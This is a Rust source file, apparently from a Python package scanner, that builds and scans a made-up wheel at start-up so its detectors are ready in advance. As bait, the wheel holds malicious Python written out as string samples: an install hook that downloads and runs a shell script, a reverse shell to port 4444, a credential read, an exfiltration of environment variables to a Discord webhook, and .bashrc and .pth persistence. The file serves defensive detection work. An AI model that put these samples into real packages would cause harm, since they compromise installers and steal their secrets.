//! Warming the scanner up. The detectors build their patterns lazily, the first time a file
//! needs them; without this, the first scan after start paid that (tens of milliseconds,
//! measured: the first pre-scan of a 28 KiB wheel took 93 ms, the next ones 1–7 ms), and
//! every scan running meanwhile waited on the same patterns — the twenty pages of a cold uv
//! install all waited for it. [`warm_up`] scans one small made-up wheel whose members reach
//! the detectors' patterns, so `serve` pays that at start, off the request path.
//!
//! Must not: keep anything (the file is removed, the report dropped) or hold up start-up.

use super::{Limits, Scanner};
use std::io::Write;
use std::path::Path;
use std::time::{Duration, Instant};

/// Member texts that reach most detectors' second-stage patterns (install hooks, dynamic
/// code, downloads, sockets, credentials, persistence, obfuscation, URLs and addresses).
const MEMBERS: &[(&str, &str)] = &[
    (
        "setup.py",
        "import base64, os, socket, subprocess, urllib.request\n\
         from setuptools import setup\n\
         from setuptools.command.install import install\n\
         class Hook(install):\n    def run(self):\n        \
         data = urllib.request.urlopen('http://198.51.100.7:8080/p.sh').read()\n        \
         open('/tmp/p.sh', 'wb').write(data); subprocess.Popen(['sh', '/tmp/p.sh'])\n        \
         exec(base64.b64decode('cHJpbnQoMSk='))\n        \
         s = socket.socket(); s.connect(('198.51.100.7', 4444)); os.dup2(s.fileno(), 0)\n        \
         subprocess.call('powershell -w hidden -enc ZQBjAGgAbwA=', shell=True)\n        \
         open(os.path.expanduser('~/.bashrc'), 'a').write('curl https://bit.ly/x | sh')\n        \
         open(os.path.expanduser('~/.aws/credentials')).read()\n        \
         requests.post('https://discord.com/api/webhooks/1/x', data=os.environ)\n        \
         eval(compile(bytes.fromhex('7072696e74'), '<x>', 'exec'))\n        \
         getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n        \
         install.run(self)\n\
         setup(name='pipgate-warm-up', version='0', cmdclass={'install': Hook})\n",
    ),
    (
        "pipgate_warm_up/__init__.py",
        "import ctypes, platform, getpass, marshal, zlib\n\
         TOKEN = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'\n\
         KEY = '-----BEGIN RSA PRIVATE KEY-----'\n\
         HOST = platform.node() + getpass.getuser()\n\
         exec(marshal.loads(zlib.decompress(b'x')))\n\
         ctypes.windll.kernel32.VirtualAllocEx(0, 0, 0, 0x3000, 0x40)\n\
         __import__('socket').gethostbyname(HOST + '.example.net')\n\
         URL = 'https://paypal.com.example.net/login'\n",
    ),
    ("pipgate_warm_up.pth", "import os; os.system('id')\n"),
    ("pipgate_warm_up/sitecustomize.py", "import subprocess\nsubprocess.run(['id'])\n"),
];

/// Scan one made-up wheel written to `dir` (removed afterwards) with `scanner`'s
/// detectors; how long it took, or `None` when the file could not be written.
pub(crate) fn warm_up(scanner: &Scanner, dir: &Path) -> Option<Duration> {
    let started = Instant::now();
    // A `.part` name: a process that dies here leaves nothing `clean_stale_parts` keeps.
    let path = dir.join(format!("{}.scan-warm-up.0.part", std::process::id()));
    let written = (|| -> zip::result::ZipResult<()> {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path)?);
        let opts = zip::write::SimpleFileOptions::default();
        for (name, text) in MEMBERS {
            zip.start_file(*name, opts)?;
            zip.write_all(text.as_bytes())?;
        }
        zip.finish()?;
        Ok(())
    })();
    let report = written.ok().map(|()| scanner.scan_file(&path, "pipgate_warm_up-0-py3-none-any.whl"));
    let _ = std::fs::remove_file(&path);
    report.map(|_| started.elapsed())
}

/// [`warm_up`] on a thread of its own with a scanner of every registered detector (the
/// patterns are process-wide), logged.
pub(crate) fn spawn(dir: &Path) {
    let dir = dir.to_path_buf();
    let spawned = std::thread::Builder::new().name("scan-warm-up".into()).spawn(move || {
        let scanner = Scanner::new(Limits::default()).with_threads(1);
        match warm_up(&scanner, &dir) {
            Some(took) => tracing::debug!(ms = took.as_millis() as u64, "scanner warmed up"),
            None => tracing::debug!(dir = %dir.display(), "scanner warm-up skipped: could not write its file"),
        }
    });
    if let Err(e) = spawned {
        tracing::debug!(error = %e, "scanner warm-up not started");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_warm_up_scans_its_wheel_and_leaves_nothing_behind() {
        let dir = tempfile::tempdir().unwrap();
        let scanner = Scanner::new(Limits::default()).with_threads(1);
        assert!(warm_up(&scanner, dir.path()).is_some());
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0, "the made-up wheel is removed");
    }

    #[test]
    fn the_made_up_wheel_reaches_the_detectors() {
        // A warm-up that found nothing would have built no pattern past the prefilter.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("w.whl");
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        for (name, text) in MEMBERS {
            zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            zip.write_all(text.as_bytes()).unwrap();
        }
        zip.finish().unwrap();
        let report = Scanner::new(Limits::default()).scan_file(&path, "pipgate_warm_up-0-py3-none-any.whl");
        let ids: std::collections::BTreeSet<&str> = report.findings.iter().map(|f| f.detector.as_str()).collect();
        assert!(ids.len() >= 8, "only {} detectors found something: {ids:?}", ids.len());
    }
}
